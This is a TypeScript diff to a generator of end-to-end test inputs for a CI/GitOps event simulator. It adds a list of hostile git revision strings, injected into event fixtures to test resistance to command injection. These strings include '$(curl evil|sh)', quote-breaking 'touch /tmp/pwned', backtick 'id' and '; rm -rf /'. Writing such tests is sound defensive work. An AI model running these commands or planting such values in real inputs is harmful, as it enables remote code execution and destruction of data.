@@ -33,15 +33,33 @@ interface InputSet {
   readonly build: (app: App) => App;
   /** Use the committed dist/ as the manifests (the synth app); else synthesize. */
   readonly committed?: string;
-  readonly events: Array<{ fixture: string; patch?: (e: any) => void }>;
+  readonly events: Array<{ fixture: string; patch?: (e: any) => void; listener?: string }>;
 }
+
+/** A revision in every shape an attacker who can push a branch or tag could give it. */
+const SHA = '4b825dc642cb6eb9a060e54bf8d69288fbee4904';
+const HOSTILE_REVISIONS = [
+  'main@sha1:$(curl evil|sh)',
+  `main"; touch /tmp/pwned; "@sha1:${SHA}`,
+  `$(touch /tmp/pwned)@sha1:${SHA}`,
+  `refs/tags/v1\`id\`@sha1:${SHA}`,
+  `it's@sha1:${SHA}`,
+  `main@sha1:${SHA}; rm -rf /`,
+  `main@sha1:${SHA.slice(0, 39)}`,
+  `a..b@sha1:${SHA}`,
+];
+const hostile = HOSTILE_REVISIONS.map((revision) => ({
+  fixture: 'gitrepository-new-artifact.json',
+  listener: 'ci/on-push',
+  patch: (e: any) => { e.metadata.revision = revision; e.message = `stored artifact for revision '${revision}' $(id)`; },
+}));
 
 const SETS: InputSet[] = [
   {
     name: 'dist',
     build: buildApp,
     committed: path.join(root, 'dist'),
-    events: [{ fixture: 'gitrepository-new-artifact.json' }, { fixture: 'kustomization-reconciliation-succeeded.json' }],
+    events: [{ fixture: 'gitrepository-new-artifact.json' }, { fixture: 'kustomization-reconciliation-succeeded.json' }, ...hostile],
   },
   {
     name: 'node-service-ci',
@@ -73,12 +91,13 @@ function main(out: string) {
     const intended = app.charts.flatMap((c) => c.toJson());
     fs.writeFileSync(path.join(dir, 'intended.json'), JSON.stringify(intended, null, 1));
     const objects = readYamlFolder(manifests);
-    const events = set.events.map(({ fixture, patch }) => {
+    const events = set.events.map(({ fixture, patch, listener }) => {
       const body = JSON.parse(fs.readFileSync(path.join(fixtures, fixture), 'utf8'));
       patch?.(body);
       const result = simulateEvent(objects, body);
       if (result.broken.length) throw new Error(`${set.name}/${fixture}: simulate reports a broken chain: ${result.broken.join('; ')}`);
-      return { fixture, body, runs: result.runs.map((r) => ({ listener: r.listener, object: r.object })) };
+      const runs = result.runs.map((r) => ({ listener: r.listener, object: r.object }));
+      return { fixture, body, listener: listener ?? runs[0]?.listener, runs, trace: result.trace };
     });
     fs.writeFileSync(path.join(dir, 'events.json'), JSON.stringify(events, null, 1));
     console.log(`e2e inputs: ${set.name}: ${objects.length} objects, ${events.length} event(s)`);
